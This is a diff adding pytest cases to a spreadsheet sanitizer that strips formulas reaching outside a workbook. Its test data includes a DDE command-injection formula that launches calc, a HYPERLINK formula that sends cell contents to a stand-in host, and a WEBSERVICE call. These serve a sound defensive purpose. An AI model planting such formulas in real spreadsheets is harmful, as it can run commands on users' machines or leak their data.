@@ -7,6 +7,9 @@ from datetime import date, datetime
 import openpyxl
 import pytest
 from openpyxl.comments import Comment
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.hyperlink import Hyperlink
 from payloads import CORPUS
 
 from core.domain.plain_sheet import NOTES_SHEET, PlainSheet
@@ -188,6 +191,50 @@ def test_nothing_that_others_wrote_becomes_a_formula_a_link_or_a_broken_file(tex
         assert all(cell.hyperlink is None or cell.hyperlink.target is None for cell in cells)
         assert all(len(cell.value) <= 32_767 for cell in cells if cell.data_type == "s")
     assert back[NOTES_SHEET]["D6"].quotePrefix or not text.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+OUTWARD = (
+    '=HYPERLINK("http://contoh.test/?"&A2,"klik")',
+    '=IF(TRUE,WEBSERVICE("http://contoh.test"),1)',
+    "=cmd|' /C calc'!A0",
+    "=[1]Lain!$B$3",
+    "='C:\\data\\[lain.xlsx]Rekap 2'!B3",
+)
+
+
+@pytest.mark.parametrize("formula", OUTWARD)
+def test_what_leads_out_of_their_workbook_is_taken_out_of_what_is_handed_back(formula):
+    def change(book, sheet):
+        sheet["C2"], sheet["C3"] = formula, "=SUM(B3:B3)"
+        sheet["A2"].hyperlink = "http://contoh.test"
+        sheet["A3"].hyperlink = Hyperlink(ref="A3", location="Rekap!B3")
+        book.defined_names["luar"] = DefinedName("luar", attr_text=formula.removeprefix("="))
+        book.defined_names["dalam"] = DefinedName("dalam", attr_text="Rekap!$B$3")
+        sheet.add_data_validation(DataValidation("custom", formula1=formula.removeprefix("="), sqref="D2"))
+        sheet.add_data_validation(DataValidation("list", formula1='"a,b"', sqref="D3"))
+
+    book = handed_back("Rekap!B2", change=change)
+    sheet = book["Rekap"]
+    assert (sheet["C2"].value, sheet["C3"].value) == (None, "=SUM(B3:B3)")
+    assert (sheet["A2"].value, sheet["A2"].hyperlink) == ("Kuaro", None)
+    assert sheet["A3"].hyperlink.location == "Rekap!B3"
+    assert list(book.defined_names) == ["dalam"]
+    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["D3"]
+
+
+@pytest.mark.parametrize("result", ["=1+1", "klik", 2.5, "#N/A", True])
+def test_a_formula_that_leads_out_comes_back_as_what_it_came_to(result):
+    book, sheet = book_of(*ROWS)
+    sheet["C2"] = OUTWARD[0]
+    content = module.with_results(saved(book), {"xl/worksheets/sheet1.xml": {"C2": result}})
+    cell = opened(annotated(content, [Mark("Rekap!B2")], plain(*ROWS)))["Rekap"]["C2"]
+    assert (cell.value, cell.data_type == "f") == (result, False)
+
+
+@pytest.mark.parametrize("formula", ['=IF(A2="a|b",1,2)', "=SUM(Tabel1[Nilai])", '=A2&"[x]"&"!"', "=B3|1"])
+def test_a_formula_that_stays_inside_stays(formula):
+    book = handed_back("Rekap!B2", change=lambda _book, sheet: sheet.__setitem__("C2", formula))
+    assert book["Rekap"]["C2"].value == formula
 
 
 def test_what_is_no_xlsx_becomes_a_copy_with_everything_in_its_place():
